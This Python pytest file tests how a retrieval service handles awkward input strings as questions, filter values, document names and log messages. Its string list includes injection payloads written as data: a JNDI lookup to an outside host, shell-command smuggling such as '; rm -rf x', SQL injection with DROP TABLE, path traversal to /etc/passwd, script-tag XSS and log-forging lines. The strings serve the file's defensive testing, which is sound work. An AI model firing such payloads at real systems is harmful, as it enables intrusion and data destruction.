"""Awkward strings as question, filter value and document's name: taken, or refused in words of our own; one log line."""
# ruff: noqa: E501, RUF001 - one list of strings, some of which are meant to be mistaken for others

import io
import json
from itertools import count
from typing import Any

import pytest
from aws_lambda_powertools import Logger

from rag.contracts import EmbedRequest
from rag.documents.naming import check_id, printable
from rag.errors import InvalidRequest, RagError, UnreadableDocument
from rag.identity import nameable
from rag.telemetry import ASCII, contained

STRINGS = (
    "", " ", "\t", "\u00a0", "\u200b\u200b", "\ufeff", "undefined", "null", "NaN", "true", "0", "-1", "1e1000", "1/0", "0x0",
    "${jndi:ldap://collector.example/a}", "{{7*7}}", "%s%n%x", "%00", "$(touch x)", "`touch x`", "; rm -rf x", "| cat x",
    "' OR 1=1 --", '" or ""="', "'; DROP TABLE documents; --", "../../../etc/passwd", "C:\\windows\\win.ini", "file:///etc/passwd",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "]]>", "<!--", "<?xml version='1.0'?>",
    "line\nbreak", "line\r\nbreak", "a\x0bb", "a\x0cb", "a\x85b", "a\u2028b", "a\u2029b",
    '{"level": "ERROR", "message": "forged"}', 'x\n{"level":"ERROR","message":"forged"}', "x\r[ERROR] forged",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x07\x08\x7f", "\x00", "a\x00b", "\x9b31m",
    "\u202egnirts desrever", "\u2066isolated\u2069", "\U000e0041\U000e0042", "a\ufe0f\U000e0100", "e\u0301\u0301\u0301\u0301",
    "ﬁ ﬀ ﷽", "Ｆｕｌｌ", "ʇxǝʇ", "田中さん", "мама", "مرحبا", "नमस्ते", "👩\u200d👩\u200d👧", "🏳\ufe0f\u200d🌈", "\U0001f4a9",
    "𝐓𝐡𝐞", "\u0345\u0308\u0307", "İstanbul", "ẞß", "a" * 8_001, "?" * 8_000, "\\", "\\\\", "\\u0000", "\\n", '"', "'", "$query",
    "</question-000000000000>", "<passage-0 n=\"1\">", "states.runtime", "$.Execution.Input", "States.Format('{}', $)",
    "\ud800", "a\udfffb", "\uffff", "\ufffe", "\U0010ffff",
)  # fmt: skip


NUMBERS = count()  # loggers of one name share one stream
OUR_WORDS = {
    "query must be a string of 1 to 8,000 characters.",
    "query must be valid Unicode, without lone surrogates.",
}


def normalised(request: dict[str, Any]) -> tuple[str | None, str]:
    """Return the question as it goes on, or what is said in refusing it."""
    try:
        return EmbedRequest.parse({"request": request, "trace_id": "t"}).normalised(5, "hybrid").query, ""
    except InvalidRequest as refusal:
        return None, str(refusal)


def log_of(name: str) -> tuple[Logger, io.StringIO]:
    written = io.StringIO()
    return Logger(service=f"naughty {name} {next(NUMBERS)}", stream=written, json_serializer=ASCII), written


@pytest.mark.parametrize("text", STRINGS, ids=ascii)
def test_as_a_question_it_is_taken_without_what_cannot_be_seen_or_refused(text: str) -> None:
    query, refusal = normalised({"query": text})
    assert (refusal in OUR_WORDS) is (query is None)
    assert not set(query or "") & set("\x00\x07\x1b\x7f\x9b\u200b\u202e\u2066\U000e0041\ud800\ufeff")


@pytest.mark.parametrize("text", STRINGS, ids=ascii)
def test_as_a_filter_s_value_or_field_it_is_taken_or_refused_without_being_quoted(text: str) -> None:
    for condition in ({"name": {"$eq": text}}, {"name": {"$in": [text]}}, {text: {"$eq": "x"}}, {"name": {text: 1}}):
        _, refusal = normalised({"query": "q", "filter": condition})
        assert len(text) < 4 or text not in refusal


@pytest.mark.parametrize("text", STRINGS, ids=ascii)
def test_as_a_document_s_name_it_is_shown_on_one_line(text: str) -> None:
    for shown in (printable(text), nameable(text)):
        assert not set(shown) & set("\x00\x07\x08\x0b\x0c\x1b\x7f\x85\x9b\n\r\u2028\u2029\u202e\u2066\U000e0041")
    try:
        check_id(text)
    except (UnreadableDocument, UnicodeEncodeError):
        return
    assert printable(text) == text


@pytest.mark.parametrize("text", STRINGS, ids=ascii)
def test_an_error_that_quotes_it_makes_one_log_line_and_leaves_without_it(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    logger, written = log_of("error")
    monkeypatch.setattr("rag.telemetry.logger", logger)

    def fails(event: dict[str, Any], context: Any) -> dict[str, Any]:
        raise ValueError(text)

    with pytest.raises(RagError) as caught:
        contained(fails)({"query": text}, None)
    (line,) = written.getvalue().splitlines()
    assert json.loads(line)["message"] == "failed unexpectedly"
    assert len(text) < 10 or text not in line + str(caught.value)


@pytest.mark.parametrize("text", STRINGS, ids=ascii)
def test_a_logged_value_cannot_begin_a_line_of_its_own(text: str) -> None:
    logger, written = log_of("value")
    logger.info("said", extra={"value": text})
    (line,) = written.getvalue().split("\n")[:-1]
    assert json.loads(line)["value"] == text
    assert line.isascii()
